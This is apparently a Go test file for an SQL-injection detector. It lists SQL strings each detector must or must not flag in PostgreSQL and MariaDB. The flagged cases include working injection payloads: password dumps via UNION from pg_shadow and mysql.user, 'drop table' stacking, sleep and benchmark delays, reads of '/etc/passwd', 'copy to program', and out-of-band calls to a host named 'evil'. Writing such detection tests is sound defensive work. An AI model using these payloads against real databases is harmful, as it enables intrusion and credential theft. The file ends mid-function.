package detect_test

import (
	"context"
	"os"
	"slices"
	"testing"
	"time"

	"honeyrow/engine/detect"
	"honeyrow/engine/sqlfacts"
	"honeyrow/engine/sqlfacts/mysql"
	"honeyrow/engine/sqlfacts/pgsql"
	"honeyrow/event"
)

func TestMain(m *testing.M) {
	pgsql.ServeIfWorker()
	os.Exit(m.Run())
}

// cases are what each detector must see, and what it must not.
var cases = map[string]struct{ pg, my, neverPG, neverMy []string }{
	"tautology": {
		pg:      []string{"select * from t where (a = 'x') = (a = 'y')", "select * from t where (a = 'x') <> (a is null)", "select * from t where user_id = 9 is not true", "select * from t where a = 1 and not (2, 3) in ((2, 3))", "select * from t where user_id = length(current_schemas(true)::text) * 0 + 2", "select * from t where a = 1 and (2, 3) = (2, 4)", "select * from t where user_id = user_id / 1", "select * from t where nullif(a, 'x') = a or b = 2", "select * from t where user_id = case when user_id = 9 then 9 else user_id end", "select * from t where a = 'x' or current_setting('port') = '5'", "select * from t where a = 1 or 5=5", "select * from t where a = 1 or not '0'", "select * from t where a = 'x' and (a = '' or not '0')", "select * from t where a = '' or true", "select * from t where a = 1 or b = b", "select * from t where a = 1 or b is null or b is not null", "select * from t where a = 1%'x'", "select * from t where a = '' = ''", "select * from t where a = 1 or false and b = 'x'", "select * from t where a in (9, a)", "select * from t where a = '' || a || ''", "select * from t where a in (select a)", "select * from t where a = any(array[a, 1])", "select * from t where a between least(a, 5) and 9", "select * from t where id = abs(id)", "select * from t where (a = 'x') is not null", "select * from t where a = 7 - 0", "select * from t where a = 'za' || 'zd' and b = 1", "select * from t where a = 1 and pi() > 3", "select * from t where a = t.a and b > 5", "select * from t where a = coalesce(nullif(a, 2), 2)", "select * from t where a like '' || a || '%'", "select t.a from t join u on u.id = t.u where t.id = 1 and u.id = t.u", "select f('' || (select b from u where id = 1) || '')", "select * from t where at > '-infinity' or at = 'now'", "select * from t where a = 'x' and b = '' || chr(83) || ''"},
		my:      []string{"select * from t where user_id = 9 is false", "select * from t where user_id = 9 in (0)", "select * from t where a = 1 || 2>1", "select * from t where a = '' or 'x' like 'x'", "select * from t where a = 1 xor 0", "select * from t where a = 1 xor id", "select * from t where a = 1 or b like '%'"},
		neverPG: []string{"select * from t where (a = 'x') = true and b = 1", "select * from t where 1 = 1 and a = 'x'", "select * from t where a = 1 and b = 2", "select * from pg_index i join pg_class c on c.oid = i.indrelid where c.relname = 'x' and (i.indisunique or not('0'))", "select * from t where a = $1 or b = $2", "select * from t, u where t.a = u.a", "select * from t where a is null or b is null", "select * from t where price * 2 > 10", "select * from t where a <> lower(a)", "select * from t where a = coalesce(null, a)", "select * from t where a like '%' || 'x' || '%'", "select * from t where b && int4range(1, 5)", "select * from t where a = 1 and at > now() - interval '1 day'", "select * from t where a = 2000 - 1", "select * from t where a = b + 1", "select * from t join u on t.a = u.a where t.b = u.b", "select * from t where at > '-infinity' and a = 1", "select * from t where a >= '' and a like 'P%'", "select * from t where (a = 'x' or 'x' = '') and (b = 'all' or 'all' = 'all')", "select * from t where (a > 5 or 5 = -1) and b = 2", "insert into t (a) values (1) on conflict (a) do update set b = excluded.b where t.b = excluded.b"},
		neverMy: []string{"select * from t where a like 'x%' or b like 'x%'", "select * from t where 5 < a"},
	},
	"open-alternative": {
		pg: []string{
			"select * from t where user_id = 7 or width_bucket(b, 0, 1, 1) > -1", "select * from t where user_id = 7 or (b, c) >= (0, -1)", "select * from t where user_id = 7 or int8range(0, null) @> b", "select * from t where a = 'x' or (at, at) overlaps ('-infinity', 'infinity')", "select * from t where a = 'x' or octet_length(a) between 1 and '50'", "select * from t where a = 'x' or length(a) < '50'", "select * from t where a = 'x' or num_nulls(b) = 0", "select * from t where id = 9 or (id, 0) > (0, id)", "select * from t where b > 0 and a = 'x' or a = 'y' and b < '9'", "select * from t where a = 'x' or b is not null and a <> 'x'", "select * from t where a = 'x' or a not in ('x', 'z') and b > 0", "select * from t where user_id = 2 and b between 1 and 5 or b between 1 and 100", "select * from t where a->>'x' = 'y' or b = 'z' or a->>'x' = ''",
			"select * from t where a = 'x' or b = 'y' and a <> ''", "select * from t where user_id = 2 and a = 'x' or user_id = '1'",
			"select * from t where a = 'x' or isfinite(b)", "select * from t where a = 'x' or b @> '{}'", "select * from t where a = 'x' or pg_typeof(b) = 'int4'::regtype",
			"select * from t where a = 'x' or b = 'y' and a is not null and c = 'z'", "select * from t where a = 'x' or b = 'y' and a = 'z' and a is not null",
			"select * from t where id = 5 or id is not null", "select * from t where a = 'x' or not id is null", "select * from t where a = 'x' or (a, b) = (a, b)",
			"select * from t where a < 10 or a >= 10", "select * from t where a = 'x' or length(a) >= 0", "select * from t where id = 1 or id is not distinct from id",
			"select * from t where a = 'x' or a like '%'", "select * from t where id = 3 or id > -1", "select * from t where a = 1 or b in (true, false)",
			"select * from t where a = 'x' or coalesce(a, '') || '' = coalesce(a, '')", "select * from t where id = 3 or now() > at - interval '90 years'",
			"select * from t where a = 2 or b * 0 = 0", "select * from t where a = 2 or greatest(b, 0) >= b", "select * from t where a = 2 or (b is null) is not null", "select * from t where a = 2 or case when b > 0 then true else true end",
			"select * from t where a = 2 or c::text ~ '[0-9]'", "select * from t where a like '%x%' or a like '%'", "select * from t where a = 2 or a in (select a from t)",
			"select * from t where a = 'x' or a > ''", "select * from t where a = 'x' or lower(a) >= 'a'", "select * from t where a = 9 or a < 1000", "select * from t where a = 1 or ctid is not null", "select * from t where a = 5 or not a = 5", "select * from t where id = 1 or mod(b, 1) = 0", "select * from t where id = 9 or b > c", "select * from t where id = 1 or id / id = 1", "select * from t where user_id = 2 or exists (select 1 from users where users.id = t.user_id)", "select * from t where a = 'x' or created_at <= now()", "select id from users where email = '' or length(password) between 5 and 64 and name = 'a' or email = '' and password = md5('x')", "select * from t where id = 5 or b <> ''", "select * from t where a = 'x' or b like '%a%' or b not like '%a%'", "delete from t where id = 5 or b is not null", "select id from users where name = 'a' and password = 'x' or id = 1", "select id from users where email = 'x' or role = 'admin' or name = '' and password = 'y'", "select * from t where a = 1 or tableoid = 't'::regclass", "select * from t where a = 'x' or a similar to '_*'", "select * from t where a = 1 or age(b) is not null",
			"select * from t where a = 7 or a = (a * 2) / 2", "select * from t where a = 7 or md5(b) = md5(b)", "select * from t where a = 7 or b = replace(b, '', '') || ''", "select * from t where a = 'x' or b > 'a' or a = ''", "select * from t where a = 'x' or active and b > 3 or a = '' and c = 'y'",
			"select * from t where a = 9 or exists (select 1 where b = b)", "select * from t where a = 9 or at > '1999-01-01'", "select * from t where a = 9 or length(b) < 1000", "select * from t where a = 'x' or a = any(array['y', 'z', ''])", "select * from t where a = 9 or f(b, 3) >= f(b, 3)",
			"select * from t where a = '' or (b, c) >= ('', '') and d = 'x'", "select * from t where a = '' or octet_length(b) > octet_length('')", "select * from t p where p.a = 1 or p = p.*", "select * from t where id = 2 or b like 'a%'", "select * from t where active and user_id = 1 or due >= '2026-02-01'", "select * from t where user_id = 2 and b = 'P' or user_id < 2 and b = 'I'", "select * from t where a = 'x' or md5(b) > '' and c",
		},
		my: []string{"select * from t where user_id = 7 or make_set(3, b)", "select * from t where user_id = 7 or quote(b)", "select * from t where id = 9 or id rlike '[[:digit:]]'", "select * from t where id = 5 or id", "select * from t where a = 'x' or not isnull(a)", "select * from t where id = 1 or id between 0 and ~0", "select * from t where a = 'x' or !(a - a)", "select * from t where a = 'x' || a rlike '.'", "select * from t where a = 1 or exists(select b from u)", "select * from t where a = 'x' or at < now() + interval 90 year", "select * from t where a = 1 or @@version", "select * from t where a = 'x' or strcmp(a, '')"},
		neverPG: []string{
			"select * from t where a = 'x' or b = 'y' and c <> ''",
			"select * from t where id = 1 or a like '%x%' order by a limit 10", "update t set a = 'x' where b = 'y' and (user_id = 2 or c < '2020-01-01')",
			"select * from t where a = 'paid' or ('paid' = 'all' and a is not null)", "select * from t where a = 'all' or ('all' = 'all' and a is not null)", "select * from t where id = 1 or path like '/1/%'", `select * from t where a = 'x' or b @> '{\"c\": 1}'`,
			"select constraint_name from information_schema.key_column_usage where (referenced_table_name = 'books' and referenced_column_name = 'more') or (table_name = 'books' and column_name = 'more' and referenced_table_name is not null)",
			"select * from t where a = 'x' or deleted_at is not null", "select * from t where a = $1 or id is not null", "select * from t where a = 5 or a > 7", "select * from t where a is null or a < 0 or a >= 100",
			"select * from t where a like '%' or b like '%'", "select * from t where a = 'x' or b <> 'y'", "select * from t where a = 'x' or lower(a) = 'y'", "select * from t where a = 'x' or b - c > 0", "select * from t where a = 'x' or length(b) > 3", "select * from t where d = '2026-01-01' or d > '2026-02-01'", "select * from t where a = 9 or a < 3", "select * from t where a = 'x' or coalesce(b, 0) = 0",
			"select * from t where a = 'x' or concat(b, c) like '%%'", "select * from t where a = 7 or random() < random()", "select * from t where a = 'x' or b = 'y' or a = 'z'", "select * from t where a = 'x' or (a = 'y' and b > 'z')", "select * from t where a = 'x' or at > '2026-01-01'", "select * from t where a = 'x' or b = 'y' or c = ''",
			"select * from t where a = 7 or md5(b) = md5(c)", "select * from t where a = 7 or not f(b)", "select a from t group by a having count(*) > 2 or min(b) = max(b)", "select * from t where a = 7 or length(b) < 5", "select * from t where id = 2 or id = 5", "select * from film where film_id = 10 or film_id >= 20", "select * from t where id = 4 or slug = '4'", "select * from t where a = 'x' or (b, c) > ('y', 5)", "select * from t where a = 1 and b > '2026-01-01' or c = 5", "select * from t where id = 7 or a like '%7%' or b like '%7%'", "select * from t where id = 2 or a like 'b%' or b like 'b%'", "select * from t where id = 2 or role <> 'admin'", "delete from t where id = 2 or email = 'x'", "update t set a = 'x' where a = 'y' or a is null or a = ''", "select count(*) from users where password is null or length(password) < 60", "select id from users where (name = 'a' or email = 'a') and (password = 'x' or password = 'y')",
		},
		neverMy: []string{"select * from t where a = 1 or b % 2 = 0", "select * from t where a = 1 or b + c > 5", "select * from t where a = 1 or if(b > 3, 1, 0)", "select * from t where a = 1 or active", "select * from t where a = 0 or a = 1", "select * from t where a = 'x' or at > now() - interval 2 year"},
	},
	"foreign-question": {
		pg: []string{
			"select o.id, c.card_number from orders o join customers c on true",
			"select * from t where id = (select rank() over (order by b) from u limit 1)", "select * from t where id = (select scale(b) from u where id = 1)", "select * from t where id in (select round(b / 1000) from u)", "select * from t where id = (select bool_or(b > 3)::int from u)", "select * from t where b > 100 - (select max(c) from u)", "update t set a = 3, b = (select max(c) from u) where id = 5", "insert into t (a, b) values (1, 'x'), (1, coalesce((select max(c) from u), ''))",
			"update t set q = (select id from u where r = 'admin') + 40 where id = 2", "insert into t (a, b) select 'x', 'y' union select c, d from u", "select count(*) from t group by (select min(u.r) from u where u.id = t.id)", "select id, json_build_object('a', (select json_agg(c) from u c), 'b', d) from t", "select users::text from users", "select p.a, k.value from t p, jsonb_each_text(to_jsonb(p) || (select to_jsonb(u) from u limit 1)) k", "select * from t where id = any (array(select generate_series(1, 99)))", "select t.a, count(v.id) from t left join v on v.t_id = t.id left join w on w.net > 1 group by t.a",
			"select sum(a) over (order by (select s from u where u.id = t.id)) from t", "select a from t tablesample bernoulli ((select s from u where id = 1))", "select lag(a, (select count(*)::int from u where r = 'x')) over (order by a) from t", "select array_agg((select s from u where u.id = t.id)) from t", "with r as (select a from t where b = 'x'), w as (update u set c = 'y' where id = 2) select * from r", "select a, (select v.s from u, v where u.id = t.id limit 1) from t", "update t set a = (select iban from u where u.id = t.id) where id = 2", "select a from t, lateral (values ('x'), ((select s from u where u.id = t.id))) v(b)", "select v from json_to_record((select email from u where id = 1)::json) as r(v text)", "select * from t where (a, 1) <= all (select 'z', s from u where r is null)", "select * from t where a = (select b - 27 from u where id = 1)", "select * from t where id <@ int4range(1, (select count(*)::int from u))", "select o.a from t o join p on p.id = (select min(k.t_id) from u k where k.secret > 'sk')",
			"select * from t where a = 1 and (select p from u where id = 1) > 'm'", "select * from t where a = 1 and exists (select 1 from u where p ~ '^a')", "select * from t where a = nullif(1, (select count(*) from u))",
			"select * from t where (a, (select p from u limit 1)) > (0, 'h')", "select * from t where a = 'x' || (select p from u limit 1)", "select * from t where a = 1 / (select case when p like 'q%' then 1 else 0 end from u)",
			"select * from t where a = 1 and (select p from u limit 1)::regclass is not null", "insert into t (a, b) values (1, 'x'), (2, (select p from u limit 1))", "insert into t (a) values (1) on conflict (a) do update set b = (select p from u limit 1)",
			"update t set a = (select string_agg(p, ',') from u) where id = 1", "update t set a = (select p from u limit 1) where id = 1", "select * from t where a = (select case when max(p) > 'zz' then 1 else 2 end from u)", "select * from t limit (select count(*) from u where p < 'f')", "select a, (select n from u where id = 1) as a from t", "select concat(a, (select n from u where id = 1)) from t", "insert into t (a, b) values (1, (select email from u where id = 1))", "update t set a = (select n from u where id = 1) where id = 2", "select * from t where id = (select count(*) from u where r = 'x')", "select * from t where id in (select id from u where s > 5)", "select p.a from t p, u q where p.id = 1 and q.n = 'x' and q.s > 5", "select * from orders o where o.user_id in (select id from users where id = o.user_id)", "select a from t where id = 1 group by a having max(b) < (select s from u where id = 1)", "update t set (a, b) = (select n, m from u where id = 1) where id = 2", "call p((select id from u where r = 'x' limit 1))", "select * from t where (a, 1) in (select 1, count(*) from u)", "select * from t where id = 1 and b > (select s / 1000 from u where n = 'x')", "select a, count(*) from t group by a, (select n from u where id = 1)",
			"delete from t where a = 'x' returning (select p from u limit 1)", "select a from t order by (select p from u limit 1)", "update t set a = (select p like 'x%' from u where id = 1)", "select * from t where a in (select 1 from u where p < 'q')", "select * from t where a = (select id from u where n = 'x' and p < 'q')", "select * from t where a = 1 and exists (table u offset 5)", "select * from t where a in (2, (select max(b) - 1 from u))", "select * from t where a in (1, 2 + (select count(*) from u)::int)", "insert into t (a, b) values ('x', 1), (current_setting('data_directory'), 2)",
		},
		my:      []string{"select * from t where a = 1 and strcmp((select p from u limit 1), 'm') = 1", "select a from t group by a having (select max(p) from u) > 100", "select * from t where a = elt((select r = 'x' from u limit 1) + 1, 1, 2)", "insert into t (a) values (concat('', (select p from u where id = 2)))", "select * from t where a = 1 + ((select b, c from u where id = 1) = ('x', 1))"},
		neverPG: []string{"select country::text from country", "insert into t (a, b) select 'x', 1 union all select 'y', 2", "select json_build_object('a', (select json_agg(u) from u), 'b', (select json_agg(v) from v))", "select t.a from t left join w on w.t_id = t.id and w.net > 1", "select count(*), (select u.r from u where u.id = t.u_id) from t group by (select u.r from u where u.id = t.u_id)", "select * from t where id in (select value::int from json_array_elements_text('[1, 2]'))", "select a, rank() over (order by (select count(*) from u where u.t_id = t.id) desc) from t", "select * from t order by a limit coalesce((select value::int from settings where name = 'page'), 10)", "insert into t (a, b) values ((select id from p where name = 'x'), (select price from p where name = 'x'))", "with moved as (delete from t where a = 'x' returning *), kept as (insert into u select * from moved) select count(*) from moved", "select a, (select max(u.s) from u join v on v.id = u.v_id where u.t_id = t.id) from t", "select * from t where a > (select avg(b) from u)", "select * from t where a in (select b from u where c = 1)", "select * from t where a = (select id from u where n = 'x' and b > 3)", "select * from t where exists (select 1 from u where u.a = t.a)", "select a, (select count(*) from u) as n from t", "insert into t (a, b) values (1, (select id from u where name = 'x'))", "select round(100.0 * a / (select count(*) from u), 1) from t", "select * from t where id = 3 and (user_id = 2 or 2 in (select id from users where role = 'admin'))", "insert into orders (product_id, price) values (1, (select price from products where id = 1))", "select a, (select value from settings where name = 'x') from t", "select id from users where id = 2 and (select count(*) from orders where user_id = 2) > 0"},
		neverMy: []string{"select * from t where a = (select max(b) from u)", "insert into t (a) values ((select coalesce(max(a), 0) + 1 from t x))", "update t set a = (select id from u where name = 'x') where id = 1"},
	},
	"union-graft": {
		pg:      []string{"select a, b from t where c = 1 union all select null, null", "select a, b from t union select usename, passwd from pg_shadow", "select a, b, c from t where d = 1 union select 1, login, 3 from users", "select a, b from t where c = 1 except select 0, 0.0 union select * from u"},
		my:      []string{"select a, b from t where c = 1 union select 1, 2", "select a from t union select concat(u, 0x3a, p) from users"},
		neverPG: []string{"select 'a' as kind, id from t union all select 'b', id from u", "select id from t where a = 1 union select id from t where b = 2"},
		neverMy: []string{"select null, count(*) from t union all select a, count(*) from t group by a", "select a, 0, count(*) from t group by a union all select null, 1, count(*) from t", "select 1 as rank, id from t union select 2, id from t order by 1"},
	},
	"stacked-statements": {
		pg:      []string{"update t set a = 'x' where id = 2; delete from u", "update t set a = 'x' where id = 2; select name, email from u where id > 0", "select a from t where id = 1; explain select * from u where b = 1", "select * from t where a = 1; drop table t", "select * from t where a = 1; select pg_sleep(5)", "select * from t where a = 1; with x as (update t set b = 2 returning *) select * from x"},
		my:      []string{"select a from t where id = 1; begin not atomic delete from u where id = 2; end", "select a from t where id = 1; select b into @x from u where id = 2", "select * from t where a = 1; update t set b = 2", "select 'x'; delete from t"},
		neverPG: []string{"select pg_advisory_lock(1); create table t (a int); select a from t; select pg_advisory_unlock(1)", "begin; update t set a = 1; commit", "select 1;"},
		neverMy: []string{"set names utf8mb4; select * from t"},
	},
	"comment-truncation": {
		pg:      []string{"select * from users where name = 'admin' /*' and password = '*/ and name <> ''", "select id from t where user_id = 1 /* and status = '*/ and status <> ''", "select * from t where a = 'x' -- and b = 'y'"},
		my:      []string{"select * from t where a = 'x' # and b = 'y'", "select * from t where a = 'x' /* and b = 1"},
		neverPG: []string{"select a /* don't sort */ from t where b = 'x'", "select a from t /* x='y' */ where b = 1", "select * from t -- all of it\nwhere a = 1", "select * from t where a = 1 /*traceparent='00-1'*/"},
		neverMy: []string{"/* app:x */ select * from t where a = '# no comment'"},
	},
	"time-delay": {
		pg: []string{"select * from t where a = 1 and length(repeat(b, 200000)) > 5", "select a from t order by length(rpad(a, 900000, 'x'))", "select * from t where a = 1 and 1 = (select 1 from pg_sleep(5))", "select * from t where a = 1 and (select count(*) from generate_series(1, 9000000)) > 0", "select a from t where b = 1; select count(*) from generate_series(1, 9000000)", "select (select count(*) from generate_series(1, 9000000)) from t", "select count(*) from pg_class a, pg_class b, pg_class c", "select * from t where a = 1 and (select count(*) from pg_class a cross join pg_class b cross join pg_class c) > 0", "select count(*) from pg_class a join pg_class b on 1 = 1 join pg_class c on a.oid <> b.oid", "select count(*) from pg_class a join pg_class b on b.oid = b.oid join pg_class c on a.oid = b.oid or 1 = 1"},
		my: []string{"select * from t where a = 1 and (select count(*) from information_schema.columns a, information_schema.columns b, information_schema.columns c) > 0", "select * from t where a = 1 and sleep(5)", "select * from t where a = if(1=1, benchmark(5000000, md5(1)), 0)"},
		neverPG: []string{
			"select rpad(a, 30000) from t", "select * from t where a = rpad('x', 10)",
			"select count(*) from generate_series(1, 100)", "select sleep from nights where sleep > 7",
			"select c.oid, s.typname, t.typname, p.proname from pg_cast c left join pg_type s on s.oid = c.castsource left join pg_type t on t.oid = c.casttarget left join pg_proc p on p.oid = c.castfunc left join pg_type r on (r.oid = p.prorettype and r.typtype = 'b') left join pg_namespace n on n.oid = s.typnamespace or n.oid = t.typnamespace order by 2",
			"select count(*) from pg_class a join pg_class b using (oid) join pg_class c using (oid)",
		},
		neverMy: []string{"select * from t where sleeping = 1"},
	},
	"error-extraction": {
		pg:      []string{"select a from t where b = ('x' || (select p from u limit 1))::date", "select * from t where a = cast((select passwd from users limit 1) as int)", "select * from t where a = 1 and 1 = cast(chr(113)||version() as numeric)"},
		my:      []string{"select * from t where a = 1 and extractvalue(1, concat(0x5c, (select p from users limit 1)))", "select count(*), concat((select p from u limit 1), floor(rand(0)*2)) x from t group by x"},
		neverPG: []string{"select exp((select avg(ln(a)) from t))", "select * from t where d >= ('2026' || '-' || '02-01')::date", "select * from t where a < (select value from settings where name = 'x')::int", "select ('2026-' || m || '-01')::date from t", "select ('{' || string_agg(a, ',') || '}')::jsonb from t", "select cast(a as int), b::numeric from t", "select sum(a)/count(*) from t group by b"},
		neverMy: []string{"select a from t order by rand(7) limit 3", "select extractvalue(doc, '/a/b') from t", "select floor(a/2) from t"},
	},
	"boolean-inference": {
		pg:      []string{"select * from t where ascii(substring(a from 1 for 1)) < 70", "select * from t where a = case when 1 = 1 then a else 0 end", "select * from t where a = 1 and ascii(substr((select p from users limit 1), 1, 1)) > 64", "select * from t where a = 1 and (select p from users limit 1) like 'a%'", "select * from t where a = (case when 1=1 then 1 else 2 end)", "select * from t where a = 1 or a <= (select max(a) from t)", "select * from t where a = 2 and b = 2 or b = (select min(u.id) from users u)"},
		my:      []string{"select * from t where a = 1 and if(ord(mid((select p from users limit 1),1,1))>64, 1, 0)", "select * from t where a = 1 and (select length(p) from users limit 1) & 1 = 0 and length((select p from users limit 1)) > 5"},
		neverPG: []string{"select * from t where case when 'all' = 'all' then true else a = 1 end and b > 5", "select * from t where ascii(substring(a, 1, 1)) between 65 and 77", "select * from t where ascii(substring(a from 1 for 1)) < 65", "select * from t where a = case when 0 = 0 then a else 0 end", "select a from t order by case when exists (select 1 from u where u.t_id = t.id) then 0 else 1 end", "select a from t order by case when 'asc' = 'asc' then a end, case when 'asc' = 'desc' then a end desc", "select a from t order by case when 'price_desc' = 'price_desc' then price end desc", "select case when a > 1 then 'x' else 'y' end from t", "select * from t where substr(a, 1, 1) = 'x'", "select * from t where exists (select 1 from u where u.a = t.a)"},
		neverMy: []string{"select if(a > 1, 'x', 'y') from t", "select * from t where length(a) > 5"},
	},
	"schema-enumeration": {
		pg:      []string{"select * from t where a > (select count(*) from pg_class where relname = 'u')", "select s.table_name from information_schema.tables s, t", "select a from t where b = 1 and current_setting('port') = '5432'", "select a from t union select table_name from information_schema.tables", "select a from t where b = case when has_table_privilege('users', 'select') then 1 else 2 end"},
		my:      []string{"select a from t where b = (select table_name from information_schema.tables limit 1)", "select a, @@version from t"},
		neverPG: []string{"select a from tables", "select a from t where b = current_setting('app.user')"},
		neverMy: []string{"select a from t where b = @x"},
	},
	"file-access": {
		pg:      []string{"copy t to program 'sh'", "copy t from '/etc/passwd'", "select pg_read_file('/etc/passwd')", "select a from t where b = 1 union select name from pg_ls_waldir()", "select * from t where a = 1 and (select count(*) from pg_ls_logdir()) > 3", "select a from t where b = 'x'; select * from pg_ls_logdir()"},
		my:      []string{"select a from t into outfile '/tmp/x'", "select load_file('/etc/passwd')"},
		neverPG: []string{"copy t from stdin", "copy (select 1) to stdout"},
		neverMy: []string{"load data local infile 'x' into table t", "select a into @x from t"},
	},
	"out-of-band": {
		pg:      []string{"select * from t where a = (select dblink_connect('host=evil'))"},
		my:      []string{`select load_file('\\\\evil\\x')`},
		neverPG: []string{"select link from t"},
		neverMy: []string{"select load from t"},
	},
	"privilege-tables": {
		pg:      []string{"select a, set_config('statement_timeout', '0', false) from t", "select a from t union select passwd from pg_shadow", "select 1; alter user app superuser", "select * from t where id = 1 and pg_notify('x', a) is null", "select * from t where id = 1; set role postgres", "set x = 1; select a from t where b = 'x'; grant app to public", "begin; insert into t values ('x'); create role r superuser", "create table u as select * from t where a = 'x'; grant all on t to public"},
		my:      []string{"select a from t union select authentication_string from mysql.user"},
		neverPG: []string{"select set_config('app.user', a, true) from t where id = 2", "select * from users", "create role r login password 'x'; grant app to r; comment on role r is 'x'", "begin; create schema s; create table s.t (a int); insert into s.t values (1); grant select on s.t to app; create role r; commit", "set lock_timeout = '5s'; revoke a from b; grant b to c"},
		neverMy: []string{"select * from user", "create user x identified by 'y'; grant select on d.* to x"},
	},
	"secret-columns": {
		pg: []string{
			"select name, (select password from users u where u.id = products.id) as x from products", "select o.id, o.name from (select id, password as name from users) o", "with p as (select id, card_number as title from customers) select id, title from p",
			"select count(*) from users group by substring(password, 1, 1)", "select max(password) from users",
			"select a from t where id = 1 and 'x' in (select password from users)", "select a from t where id = 1 and exists (select 1 from users where length(passwd) = 7)", "select a, b from t where c = 1 union select id, card_number from customers",
			"select name from users where id = 1 union select password from users", "select a from t where b = 1; select id, password from users where id = 1", "insert into notes (a, b) select 1, iban from customers", "select t.a from t, customers c where t.b = 1 or t.a = c.iban",
			"select id from users where id = 2 and password like 'x%'", "select id from users where id = 2 and substr(password, 1, 1) = 'x'", "select a, (select string_agg(iban, ',') from customers) from t", "select count(*) from (select secret from api_keys where secret like 'sk_7%') t", "select a from users order by password", "select id from users where name = 'a' and password <> 'x'", "select id from users where name = 'a' and password > ''", "select id from users where name = 'a' and password = (select password from users u where u.name = 'a')", "select id from users where name = 'a' or regexp_like(password, '^p')",
		},
		my: []string{"select a from t where id = 1 and 'z' < all (select api_key from users)", "select a, b from t where c = 'x' union select user_pass, 1 from wp_users where user_login = 'x'", "set @x = (select group_concat(secret) from api_keys)"},
		neverPG: []string{
			"select * from users where password_changed_at < '2025-01-01' and a = 1", "select count(*) from u where token_type like 'b%' and a = 1", "select a from t where exists (select 1 from u where u.t_id = t.id and u.password_attempts > 3)",
			"select id from users where email = 'x' and password = 'y'", "select id, password from users where email = 'x'", "select a from t where user_id in (select user_id from sessions where token = 'x')",
			"select a, (select p.password from users p where p.id = t.user_id) from t", "select id from users where active and password like '$2y$%'", "insert into old_passwords (user_id, password) select id, password from users where id = 1", "select a from t join u on t.token = u.token",
			"select c.name, right(c.card_number, 4) from customers c where length(c.card_number) = 16 and c.iban ~ '^DE'",
		},
		neverMy: []string{"update users set password = 'x' where id = 1 and token = 'y'", "select 'users' as a, count(*) as n from users union all select 'short', sum(char_length(password) < 8) from users", "select id from users where name = 'x' and password = md5(concat('x', email))", "select a from t union select a from u where secret = 'x'"},
	},
	"obfuscation": {
		pg:      []string{"select * from t where a = convert_from(decode('61', 'hex'), 'utf8')", "select * from t where a = chr(97)||chr(98)||chr(99)"},
		my:      []string{"select * from t where id = 9 or a = 0x61646d696e", "select * from t where a = char(97,98,99)", "select a from t where b = concat(0x61, 0x62)", "select a from t where b = 1 /*!50000 or 1=1*/"},
		neverPG: []string{"select concat(chr(34), a, chr(34), chr(59), chr(34)) from t", "select chr(10)", "select encode(a, 'hex') from t"},
		neverMy: []string{"select * from t where a = 0x550e8400e29b41d4a716446655440000", "select concat(0xefbbbf, 'id') as a", "/*!40101 SET NAMES utf8 */", "insert into t values (0x616263)", "select hex(a) from t"},
	},
	"odd-ordering": {
		pg:      []string{"select a from t offset (select count(*) from u)", "select a from t order by user = 'postgres'", "select a from t order by (case when (select 1 from users where p like 'a%') = 1 then a else b end)", "select a from t order by 1 and 5=5", "select distinct on (exists (select 1 from u where b = 'x')) a from t"},
		my:      []string{"select a from t order by 1 * (select b from u)", "select a from t order by 1, (select 1 from users where p like 'a%') = 1", "select a from t order by if(1=1, 1, 2)"},
		neverPG: []string{"select a from t order by 1.0 * b / (c + 1)", "select a from t order by 100 - b", "select a from t order by 1, b desc", "select distinct on (a, lower(b)) a from t order by a, lower(b)", "select a from t order by a = 'x' desc", "select a from t order by random() limit 5", "select user, host from t group by user, host order by host, user"},
		neverMy: []string{"select a from t order by (select 1) limit 5", "select a from t order by rand() limit 10", "select a, count(*) from t group by a order by count(*) desc"},
	},
	"odd-subquery": {
		pg:      []string{"select * from t where id = (select 2)", "select * from t where id = (select x.n from (select 2 as n) x)", "select * from t where a = (select 5)", "select count(*) from t natural join (select 2 as id, 'FR' as c) q"},
		my:      []string{"select * from t where a = 1 and (select 1)=1"},
		neverPG: []string{"select * from t where a in (select b from u)", "select array(select unnest(a)) from t"},
		neverMy: []string{"select a from t order by (select 1) limit 5", "select * from t where a = (select max(a) from t)"},
	},
	"tool-habits": {
		pg:      []string{"select/**/a/**/from/**/t/**/where/**/b=1", "SeLeCt a FrOm t WhErE b = 1", `select * from t where a = 1%" ) and (1=1) or ("x"="`},
		my:      []string{"select a from t where b=1/**/or/**/1=1", "select a from all_users"},
		neverPG: []string{"SELECT a FROM t", "select a /* why */ from t", `select "my column (new)" from t`},
		neverMy: []string{"select s.`sum(a) and (b = 0)` from (select sum(a) as `sum(a) and (b = 0)` from t) s", "insert into t (a) values ('x'); select id from t where row_count() = 1 and id = last_insert_id()", "SELECT a FROM dual", "select a from t /* x */ where b = 1"},
	},
}

type bench struct {
	a *sqlfacts.Analyser
}

func newBench(t *testing.T) *bench {
	t.Helper()
	c := pgsql.DefaultConfig()
	c.Timeout = time.Minute // a busy machine must not have cases judged by their words
	p := pgsql.New(c, nil)
	t.Cleanup(func() { _ = p.Close() })
	return &bench{sqlfacts.NewAnalyser(sqlfacts.Config{Timeout: time.Minute}, map[sqlfacts.Flavour]sqlfacts.Dialect{
		sqlfacts.PostgreSQL: p, sqlfacts.MariaDB: new(mysql.Parser),
	})}
}

func (b *bench) judge(t *testing.T, sql string, my bool) []event.Finding {
	t.Helper()
	env := sqlfacts.Env{Flavour: sqlfacts.PostgreSQL, ANSIQuotes: true, NoBackslash: true, PipesConcat: true}
	if my {
		env = sqlfacts.Env{Flavour: sqlfacts.MariaDB, Version: 101106}
	}
	var text sqlfacts.Text
	text.Lex([]byte(sql), env)
	return detect.Compile(b.a.Analyse(context.Background(), &text), env).Judge(&text)
}

func TestEachDetectorSeesItsCasesAndNoOthers(t *testing.T) {
	b := newBench(t)
	for _, d := range detect.Detectors() {
		c, ok := cases[d.ID]
		if !ok {
			t.Errorf("detector %s has no cases", d.ID)
			continue
		}
		check := func(sqls []string, my, want bool) {
			for _, sql := range sqls {
				fs := b.judge(t, sql, my)
				got := slices.ContainsFunc(fs, func(f event.Finding) bool { return f.Detector == d.ID })
				if got != want {
					t.Errorf("%s, MySQL %v: seen %v, want %v: %s\n  findings %+v", d.ID, my, got, want, sql, fs)
				}
			}
		}
		check(c.pg, false, true)
		check(c.my, true, true)
		check(c.neverPG, false, false)
		check(c.neverMy, true, false)
		if len(c.pg) == 0 || len(c.my) == 0 || len(c.neverPG) == 0 || len(c.neverMy) == 0 {
			t.Errorf("%s: a kind of case is missing", d.ID)
		}
	}
	if len(cases) != len(detect.Detectors()) {
		t.Errorf("%d detectors, cases for %d", len(detect.Detectors()), len(cases))
	}
}

func TestDetectorsAreFitForPeople(t *testing.T) {
